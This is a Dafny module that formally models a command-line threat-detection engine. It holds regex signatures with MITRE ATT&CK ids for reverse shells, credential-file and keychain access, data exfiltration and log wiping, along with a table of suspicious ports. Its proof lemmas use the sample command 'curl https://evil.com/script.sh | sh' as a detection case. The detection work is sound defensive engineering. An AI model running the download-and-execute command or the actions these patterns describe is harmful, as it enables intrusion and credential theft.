/** The threat-intelligence engine: a fixed table of known-bad command
    signatures (with MITRE ATT&CK identifiers), a table of suspicious ports,
    and the lookups over them. */
module ThreatIntel {
  import opened Text

  datatype Severity = Low | Medium | High | Critical

  /** The enum's `.value`. */
  function SeverityValue(s: Severity): string {
    match s
    case Low => "low"
    case Medium => "medium"
    case High => "high"
    case Critical => "critical"
  }

  datatype Signature = Signature(
    id: string,
    name: string,
    description: string,
    severity: Severity,
    pattern: string,
    category: string,
    mitreId: Option<string>,
    cve: Option<string>,
    remediation: Option<string>)

  /** A record of `analyze_command`'s result list. */
  datatype ThreatMatch = ThreatMatch(
    threatId: string,
    name: string,
    description: string,
    severity: string,
    category: string,
    mitreId: Option<string>,
    remediation: Option<string>,
    matchedPattern: string)

  /** A record of `get_all_patterns`'s result list. */
  datatype PatternSummary = PatternSummary(
    id: string,
    name: string,
    description: string,
    severity: string,
    category: string,
    mitreId: Option<string>)

  /** A record returned by `analyze_network`. */
  datatype NetworkThreat = NetworkThreat(
    threatId: string,
    name: string,
    description: string,
    severity: string,
    category: string,
    remediation: string)

  const Exec001 := Signature("EXEC-001", "Pipe to Shell", "Downloads and executes remote code in one command",
    Critical, @"(curl|wget|fetch)\s+.*\|\s*(ba)?sh", "execution", Some("T1059.004"), None,
    Some("Review the URL being fetched. Never pipe untrusted URLs to shell."))

  const Exec002 := Signature("EXEC-002", "Base64 Decode Execute", "Decodes and executes base64-encoded payload",
    High, @"(echo|printf).*\|\s*base64\s+-d\s*\|\s*(ba)?sh", "execution", Some("T1027"), None,
    Some("Decode the base64 payload to inspect contents before execution."))

  const Exec003 := Signature("EXEC-003", "Python Reverse Shell", "Python code creating reverse shell connection",
    Critical, @"python.*-c.*socket.*connect", "execution", Some("T1059.006"), None,
    Some("Terminate the process immediately. Check for persistence."))

  const Exec004 := Signature("EXEC-004", "Bash Reverse Shell", "Bash reverse shell using /dev/tcp",
    Critical, @"bash.*-i.*>&\s*/dev/tcp/", "execution", Some("T1059.004"), None,
    Some("Terminate immediately. Check network connections."))

  const Exec005 := Signature("EXEC-005", "Netcat Listener", "Netcat listening for incoming connections",
    High, @"(nc|ncat|netcat)\s+(-[a-z]+\s+)*-l", "execution", Some("T1059"), None,
    Some("Check what's connecting to this listener."))

  const Pers001 := Signature("PERS-001", "Crontab Modification", "Adding scheduled task for persistence",
    High, @"crontab\s+(-[a-z]+\s+)*-[el]|echo.*>>\s*.*cron", "persistence", Some("T1053.003"), None,
    Some("Review crontab entries: crontab -l"))

  const Pers002 := Signature("PERS-002", "LaunchAgent Creation", "Creating macOS LaunchAgent for persistence",
    High, @"(LaunchAgents|LaunchDaemons).*\.plist", "persistence", Some("T1543.001"), None,
    Some("Check ~/Library/LaunchAgents and /Library/LaunchDaemons"))

  const Pers003 := Signature("PERS-003", "Shell Profile Modification", "Modifying shell startup files",
    Medium, @">>\s*~?/.*\.(bashrc|zshrc|profile|bash_profile)", "persistence", Some("T1546.004"), None,
    Some("Review shell config files for unauthorized additions."))

  const Cred001 := Signature("CRED-001", "SSH Key Access", "Accessing SSH private keys",
    High, @"(cat|less|more|head|tail|cp|scp).*\.ssh/(id_|known_hosts|authorized)", "credential_access",
    Some("T1552.004"), None, Some("Check if SSH keys were exfiltrated."))

  const Cred002 := Signature("CRED-002", "AWS Credentials Access", "Accessing AWS credentials file",
    Critical, @"(cat|less|more|cp).*\.aws/(credentials|config)", "credential_access",
    Some("T1552.001"), None, Some("Rotate AWS credentials immediately."))

  const Cred003 := Signature("CRED-003", "Browser Data Access", "Accessing browser cookies or login data",
    Critical, @"(Cookies|Login Data|Web Data).*sqlite", "credential_access",
    Some("T1539"), None, Some("Check for data exfiltration. Consider rotating passwords."))

  const Cred004 := Signature("CRED-004", "Keychain Access", "Accessing macOS Keychain",
    Critical, @"security\s+(find|dump|export).*keychain", "credential_access",
    Some("T1555.001"), None, Some("Review keychain access logs."))

  const Exfil001 := Signature("EXFIL-001", "Data Upload", "Uploading files to external server",
    High, @"curl.*(-F|--form|--data|--upload-file).*@", "exfiltration",
    Some("T1041"), None, Some("Check what data was uploaded and to where."))

  const Exfil002 := Signature("EXFIL-002", "Archive and Exfil", "Creating archive for exfiltration",
    Medium, @"(tar|zip|7z).*\.(tar|gz|zip|7z).*&&.*(curl|wget|scp|rsync)", "exfiltration",
    Some("T1560.001"), None, Some("Check archive contents and destination."))

  const Exfil003 := Signature("EXFIL-003", "DNS Exfiltration", "Possible DNS tunneling for data exfiltration",
    High, @"(dig|nslookup|host)\s+.*\$\(", "exfiltration",
    Some("T1048.003"), None, Some("Monitor DNS queries for encoded data."))

  const Evade001 := Signature("EVADE-001", "History Clearing", "Clearing command history",
    Medium, @"(history\s+-c|>\s*.*history|rm.*history|unset\s+HISTFILE)", "defense_evasion",
    Some("T1070.003"), None, Some("Investigate what commands were run before clearing."))

  const Evade002 := Signature("EVADE-002", "Log Tampering", "Modifying or deleting logs",
    High, @"(rm|truncate|>).*(/var/log/|\.log|syslog)", "defense_evasion",
    Some("T1070.002"), None, Some("Check backup logs or remote logging."))

  const Privesc001 := Signature("PRIVESC-001", "Sudo without TTY", "Attempting sudo in script context",
    Medium, @"echo.*\|\s*sudo\s+-S", "privilege_escalation",
    Some("T1548.003"), None, Some("Check what command was run with sudo."))

  const Privesc002 := Signature("PRIVESC-002", "SUID Binary Creation", "Creating SUID binary for privilege escalation",
    Critical, @"chmod\s+[u+]*s|chmod\s+[0-7]*4[0-7]{3}", "privilege_escalation",
    Some("T1548.001"), None, Some("Find and remove unauthorized SUID binaries."))

  /** The signature database, in its declared order. */
  const ThreatPatterns: seq<Signature> := [
    Exec001, Exec002, Exec003, Exec004, Exec005,
    Pers001, Pers002, Pers003, Cred001, Cred002,
    Cred003, Cred004, Exfil001, Exfil002, Exfil003,
    Evade001, Evade002, Privesc001, Privesc002
  ]

  /** Ports associated with known malware and botnets. */
  const SuspiciousPorts: map<nat, string> := map[
    4444 := "Metasploit default",
    5555 := "Common RAT port",
    6666 := "IRC/Botnet",
    6667 := "IRC",
    31337 := "Elite/Back Orifice",
    12345 := "NetBus",
    27374 := "SubSeven"
  ]

  /** A signature fires on a command under `re.IGNORECASE`: both sides are
      lower-cased and searched case-sensitively. */
  predicate Fires(search: Search, sig: Signature, command: string) {
    search(Lower(sig.pattern), Lower(command))
  }

  function Record(sig: Signature): ThreatMatch {
    ThreatMatch(sig.id, sig.name, sig.description, SeverityValue(sig.severity), sig.category,
      sig.mitreId, sig.remediation, sig.pattern)
  }

  /** The records of the signatures in `sigs` that fire, in table order. */
  function MatchesIn(search: Search, sigs: seq<Signature>, command: string): (r: seq<ThreatMatch>)
    ensures |r| <= |sigs|
  {
    if sigs == [] then []
    else (if Fires(search, sigs[0], command) then [Record(sigs[0])] else [])
         + MatchesIn(search, sigs[1..], command)
  }

  /** `analyze_command`: every signature of the database that fires, in order. */
  function AnalyzeCommand(search: Search, command: string): seq<ThreatMatch> {
    MatchesIn(search, ThreatPatterns, command)
  }

  lemma {:induction false} MatchesInAppend(search: Search, a: seq<Signature>, b: seq<Signature>, command: string)
    ensures MatchesIn(search, a + b, command) == MatchesIn(search, a, command) + MatchesIn(search, b, command)
  {
    if a != [] {
      MatchesInAppend(search, a[1..], b, command);
      assert (a + b)[1..] == a[1..] + b;
      assert (a + b)[0] == a[0];
    } else {
      assert a + b == b;
    }
  }

  /** At every table position the result splits into the records of the
      signatures before it, that position's record exactly when its signature
      fires, and the records of the signatures after it: the result lists the
      firing signatures, each once, in table order. */
  lemma MatchesInSplit(search: Search, sigs: seq<Signature>, command: string, i: nat)
    requires i < |sigs|
    ensures MatchesIn(search, sigs, command) ==
            MatchesIn(search, sigs[..i], command)
            + (if Fires(search, sigs[i], command) then [Record(sigs[i])] else [])
            + MatchesIn(search, sigs[i + 1..], command)
  {
    assert sigs == sigs[..i] + ([sigs[i]] + sigs[i + 1..]);
    MatchesInAppend(search, sigs[..i], [sigs[i]] + sigs[i + 1..], command);
    MatchesInAppend(search, [sigs[i]], sigs[i + 1..], command);
    assert MatchesIn(search, [sigs[i]], command) == (if Fires(search, sigs[i], command) then [Record(sigs[i])] else []);
  }

  /** A record is in the result exactly when it is the record of a firing signature. */
  lemma {:induction false} MatchesInMembers(search: Search, sigs: seq<Signature>, command: string, m: ThreatMatch)
    ensures m in MatchesIn(search, sigs, command) <==>
            exists i :: 0 <= i < |sigs| && Fires(search, sigs[i], command) && m == Record(sigs[i])
  {
    if sigs != [] {
      MatchesInMembers(search, sigs[1..], command, m);
      if m in MatchesIn(search, sigs[1..], command) {
        var i :| 0 <= i < |sigs[1..]| && Fires(search, sigs[1..][i], command) && m == Record(sigs[1..][i]);
        assert sigs[i + 1] == sigs[1..][i];
      }
      if exists i :: 0 <= i < |sigs| && Fires(search, sigs[i], command) && m == Record(sigs[i]) {
        var i :| 0 <= i < |sigs| && Fires(search, sigs[i], command) && m == Record(sigs[i]);
        if i > 0 {
          assert sigs[1..][i - 1] == sigs[i];
        }
      }
    }
  }

  lemma {:induction false} MatchesInLowered(search: Search, sigs: seq<Signature>, command: string)
    ensures MatchesIn(search, sigs, command) == MatchesIn(search, sigs, Lower(command))
  {
    LowerIdempotent(command);
    if sigs != [] {
      MatchesInLowered(search, sigs[1..], command);
    }
  }

  /** Case does not matter: a command and its lower-cased form raise the same threats.
      This holds by construction, since `Fires` lowers both the pattern and the
      command. Lowering a pattern is sound for this table because none of its
      patterns uses an upper-case escape (`\S`, `\D`, `\W`, `\B`), whose meaning
      lowering would invert. */
  lemma AnalyzeCommandCaseInsensitive(search: Search, command: string)
    ensures AnalyzeCommand(search, command) == AnalyzeCommand(search, Lower(command))
  {
    MatchesInLowered(search, ThreatPatterns, command);
  }

  /** Three characters of an id (its length, second and last character) as a number. */
  function IdCode(id: string): int {
    if |id| < 2 then 0 else |id| * 100000 + (id[1] as int) * 100 + (id[|id| - 1] as int)
  }

  lemma IdCodesOfExecPersCred()
    ensures IdCode(Exec001.id) == 808849 &&
            IdCode(Exec002.id) == 808850 &&
            IdCode(Exec003.id) == 808851 &&
            IdCode(Exec004.id) == 808852 &&
            IdCode(Exec005.id) == 808853 &&
            IdCode(Pers001.id) == 806949 &&
            IdCode(Pers002.id) == 806950 &&
            IdCode(Pers003.id) == 806951 &&
            IdCode(Cred001.id) == 808249
  {
    assert IdCode(Exec001.id) == 808849;
    assert IdCode(Exec002.id) == 808850;
    assert IdCode(Exec003.id) == 808851;
    assert IdCode(Exec004.id) == 808852;
    assert IdCode(Exec005.id) == 808853;
    assert IdCode(Pers001.id) == 806949;
    assert IdCode(Pers002.id) == 806950;
    assert IdCode(Pers003.id) == 806951;
    assert IdCode(Cred001.id) == 808249;
  }

  lemma IdCodesOfRest()
    ensures IdCode(Cred002.id) == 808250 &&
            IdCode(Cred003.id) == 808251 &&
            IdCode(Cred004.id) == 808252 &&
            IdCode(Exfil001.id) == 908849 &&
            IdCode(Exfil002.id) == 908850 &&
            IdCode(Exfil003.id) == 908851 &&
            IdCode(Evade001.id) == 908649 &&
            IdCode(Evade002.id) == 908650 &&
            IdCode(Privesc001.id) == 1108249 &&
            IdCode(Privesc002.id) == 1108250
  {
    assert IdCode(Cred002.id) == 808250;
    assert IdCode(Cred003.id) == 808251;
    assert IdCode(Cred004.id) == 808252;
    assert IdCode(Exfil001.id) == 908849;
    assert IdCode(Exfil002.id) == 908850;
    assert IdCode(Exfil003.id) == 908851;
    assert IdCode(Evade001.id) == 908649;
    assert IdCode(Evade002.id) == 908650;
    assert IdCode(Privesc001.id) == 1108249;
    assert IdCode(Privesc002.id) == 1108250;
  }

  lemma IdCodesOfTable()
    ensures |ThreatPatterns| == 19
    ensures forall i :: 0 <= i < 19 ==> IdCode(ThreatPatterns[i].id) == [808849, 808850, 808851, 808852, 808853, 806949, 806950, 806951, 808249, 808250, 808251, 808252, 908849, 908850, 908851, 908649, 908650, 1108249, 1108250][i]
  {
    IdCodesOfExecPersCred();
    IdCodesOfRest();
  }

  /** Threat ids are unique, so compiling the table into a map keyed by id keeps
      every signature's own pattern. */
  lemma ThreatIdsUnique()
    ensures forall i, j :: 0 <= i < j < |ThreatPatterns| ==> ThreatPatterns[i].id != ThreatPatterns[j].id
  {
    IdCodesOfTable();
    CodesDistinct(seq(19, i requires 0 <= i < 19 => ThreatPatterns[i].id));
  }

  /** Nineteen ids with the table's nineteen distinct codes are distinct. */
  lemma CodesDistinct(ids: seq<string>)
    requires |ids| == 19
    requires forall i :: 0 <= i < 19 ==> IdCode(ids[i]) == [808849, 808850, 808851, 808852, 808853, 806949, 806950, 806951, 808249, 808250, 808251, 808252, 908849, 908850, 908851, 908649, 908650, 1108249, 1108250][i]
    ensures forall i, j :: 0 <= i < j < 19 ==> ids[i] != ids[j]
  {
  }

  /** `analyze_network`: a report exactly for the ports in the suspicious table;
      the remote address plays no part. */
  function AnalyzeNetwork(remote: string, port: nat): (r: Option<NetworkThreat>)
    ensures r.Some? <==> port in SuspiciousPorts
    ensures r.Some? ==> r.value.description == SuspiciousPorts[port] && r.value.severity == "high"
                        && r.value.category == "network" && r.value.threatId == "NET-" + NatToString(port)
  {
    if port in SuspiciousPorts then
      var p := NatToString(port);
      Some(NetworkThreat("NET-" + p, "Suspicious Port " + p, SuspiciousPorts[port], "high", "network",
        "Investigate why port " + p + " is being used."))
    else None
  }

  lemma AnalyzeNetworkIgnoresRemote(r1: string, r2: string, port: nat)
    ensures AnalyzeNetwork(r1, port) == AnalyzeNetwork(r2, port)
  {
  }

  function Summary(sig: Signature): PatternSummary {
    PatternSummary(sig.id, sig.name, sig.description, SeverityValue(sig.severity), sig.category, sig.mitreId)
  }

  /** `get_all_patterns`: one summary per signature, in table order. */
  function GetAllPatterns(): (r: seq<PatternSummary>)
    ensures |r| == |ThreatPatterns|
    ensures forall i :: 0 <= i < |r| ==> r[i].id == ThreatPatterns[i].id && r[i].severity == SeverityValue(ThreatPatterns[i].severity)
  {
    seq(|ThreatPatterns|, i requires 0 <= i < |ThreatPatterns| => Summary(ThreatPatterns[i]))
  }

  // --------------------------------------------------- two signatures hand-coded

  predicate NoNewline(t: string) { '\n' !in t }
  predicate AllLowerLetters(t: string) { forall i :: 0 <= i < |t| ==> 'a' <= t[i] <= 'z' }

  /** `(curl|wget|fetch)\s+.*\|\s*(ba)?sh` matches somewhere in `t`. */
  ghost predicate PipeToShellIn(t: string) {
    exists i, a, b, c, d ::
      0 <= i < a < b <= c < d <= |t| &&
      (t[i..a] == "curl" || t[i..a] == "wget" || t[i..a] == "fetch") &&
      AllSpace(t[a..b]) && NoNewline(t[b..c]) && t[c] == '|' && AllSpace(t[c + 1..d]) &&
      ("sh" <= t[d..] || "bash" <= t[d..])
  }

  /** `(-[a-z]+\s+)*` spans exactly `t[b..c]`. */
  ghost predicate FlagRuns(t: string, b: nat, c: nat)
    requires b <= c <= |t|
    decreases c - b
  {
    b == c ||
    exists d, e :: b + 1 < d < e <= c && t[b] == '-' && AllLowerLetters(t[b + 1..d]) &&
                   AllSpace(t[d..e]) && FlagRuns(t, e, c)
  }

  /** `crontab\s+(-[a-z]+\s+)*-[el]|echo.*>>\s*.*cron` matches somewhere in `t`. */
  ghost predicate CrontabEditIn(t: string) {
    (exists i, a, b, c ::
       0 <= i < a < b <= c && c + 2 <= |t| && a == i + 7 && t[i..a] == "crontab" &&
       AllSpace(t[a..b]) && FlagRuns(t, b, c) && t[c] == '-' && t[c + 1] in "el")
    ||
    (exists i, a, b, e, c, d, f ::
       0 <= i < a <= b < e <= c <= d < f <= |t| && a == i + 4 && e == b + 2 && f == d + 4 &&
       t[i..a] == "echo" && NoNewline(t[a..b]) && t[b..e] == ">>" && AllSpace(t[e..c]) &&
       NoNewline(t[c..d]) && t[d..f] == "cron")
  }

  lemma PipeToShellAt(t: string, i: nat, a: nat, b: nat, c: nat, d: nat)
    requires 0 <= i < a < b <= c < d <= |t|
    requires t[i..a] == "curl" && AllSpace(t[a..b]) && NoNewline(t[b..c]) && t[c] == '|'
    requires AllSpace(t[c + 1..d]) && "sh" <= t[d..]
    ensures PipeToShellIn(t)
  {
  }

  lemma CrontabAt(t: string, i: nat, b: nat, c: nat)
    requires 0 <= i && i + 7 < b <= c && c + 2 <= |t| && t[i..i + 7] == "crontab"
    requires AllSpace(t[i + 7..b]) && FlagRuns(t, b, c) && t[c] == '-' && t[c + 1] == 'e'
    ensures CrontabEditIn(t)
  {
    var a := i + 7;
    assert t[c + 1] in "el";
    assert 0 <= i < a < b <= c && c + 2 <= |t| && a == i + 7 && t[i..a] == "crontab" &&
       AllSpace(t[a..b]) && FlagRuns(t, b, c) && t[c] == '-' && t[c + 1] in "el";
  }

  /** The engine honours a hand-coded signature when it agrees with it on every text. */
  ghost predicate Honours(search: Search, sig: Signature, lang: string -> bool) {
    forall t :: search(Lower(sig.pattern), t) == lang(t)
  }

  /** The lower-cased download-and-pipe command is in the pipe-to-shell language. */
  lemma CurlPipeIsPipeToShell()
    ensures PipeToShellIn(Lower("curl https://evil.com/script.sh | sh"))
  {
    var t := Lower("curl https://evil.com/script.sh | sh");
    assert "curl" <= t;
    assert t[..4] == "curl";
    assert t[4] == ' ';
    assert t[4..5] == [t[4]];
    assert '\n' !in t;
    assert NoNewline(t[5..32]);
    assert t[32] == '|';
    assert t[33] == ' ';
    assert t[33..34] == [t[33]];
    assert t[34..] == "sh";
    PipeToShellAt(t, 0, 4, 5, 32, 34);
  }

  /** An honoured signature fires on every command whose lowered form is in its language. */
  lemma HonouredFires(search: Search, sig: Signature, lang: string -> bool, command: string)
    requires Honours(search, sig, lang) && lang(Lower(command))
    ensures Fires(search, sig, command)
  {
  }

  /** When the first signature fires, its record is the first report. */
  lemma ReportedFirst(search: Search, sigs: seq<Signature>, command: string)
    requires sigs != [] && Fires(search, sigs[0], command)
    ensures MatchesIn(search, sigs, command) != [] && MatchesIn(search, sigs, command)[0] == Record(sigs[0])
  {
  }

  /** Every signature that fires is reported. */
  lemma Reported(search: Search, sigs: seq<Signature>, command: string, k: nat)
    requires k < |sigs| && Fires(search, sigs[k], command)
    ensures Record(sigs[k]) in MatchesIn(search, sigs, command)
  {
    MatchesInMembers(search, sigs, command, Record(sigs[k]));
  }

  /** A download piped into a shell is reported, and the first report is the
      critical pipe-to-shell signature. */
  lemma PipeToShellDetected(search: Search)
    requires Honours(search, Exec001, PipeToShellIn)
    ensures var r := AnalyzeCommand(search, "curl https://evil.com/script.sh | sh");
            r != [] && r[0].threatId == "EXEC-001" && r[0].severity == "critical"
  {
    var cmd := "curl https://evil.com/script.sh | sh";
    CurlPipeIsPipeToShell();
    HonouredFires(search, Exec001, PipeToShellIn, cmd);
    assert ThreatPatterns[0] == Exec001;
    ReportedFirst(search, ThreatPatterns, cmd);
    Exec001Record();
  }

  lemma Exec001Record()
    ensures Record(Exec001).threatId == "EXEC-001" && Record(Exec001).severity == "critical"
  {
    assert Exec001.severity == Critical;
  }

  /** The lower-cased crontab-edit command is in the crontab-edit language. */
  lemma CrontabCommandIsEdit()
    ensures CrontabEditIn(Lower("crontab -e"))
  {
    var t := Lower("crontab -e");
    assert "crontab" <= t;
    assert t[..7] == "crontab";
    assert t[7] == ' ';
    assert t[7..8] == [t[7]];
    assert t[8] == '-' && t[9] == 'e';
    CrontabAt(t, 0, 8, 8);
  }

  /** Opening the crontab for editing is reported as persistence. */
  lemma CrontabEditDetected(search: Search)
    requires Honours(search, Pers001, CrontabEditIn)
    ensures exists m :: m in AnalyzeCommand(search, "crontab -e") && m.category == "persistence"
  {
    var cmd := "crontab -e";
    CrontabCommandIsEdit();
    HonouredFires(search, Pers001, CrontabEditIn, cmd);
    Pers001Reported(search, cmd);
    assert Record(Pers001).category == "persistence";
  }

  /** The crontab signature is in the database, so it is reported whenever it fires. */
  lemma Pers001Reported(search: Search, command: string)
    requires Fires(search, Pers001, command)
    ensures Record(Pers001) in AnalyzeCommand(search, command)
  {
    assert ThreatPatterns[5] == Pers001;
    Reported(search, ThreatPatterns, command, 5);
  }

  /** A text with none of the letters c, w, f and e matches neither hand-coded
      signature: every alternative of both needs one of them. */
  lemma WithoutKeyLettersNotFlagged(s: string)
    requires 'c' !in s && 'w' !in s && 'f' !in s && 'e' !in s
    ensures !PipeToShellIn(s) && !CrontabEditIn(s)
  {
    forall i, a | 0 <= i < a <= |s| ensures s[i..a][0] == s[i] { }
  }

  /** Benign commands match neither hand-coded signature. */
  lemma BenignCommandsNotFlagged()
    ensures !PipeToShellIn(Lower("git status")) && !CrontabEditIn(Lower("git status"))
    ensures !PipeToShellIn(Lower("ls -la")) && !CrontabEditIn(Lower("ls -la"))
  {
    var g, l := Lower("git status"), Lower("ls -la");
    assert 'c' !in g && 'w' !in g && 'f' !in g && 'e' !in g;
    WithoutKeyLettersNotFlagged(g);
    assert 'c' !in l && 'w' !in l && 'f' !in l && 'e' !in l;
    WithoutKeyLettersNotFlagged(l);
  }
}
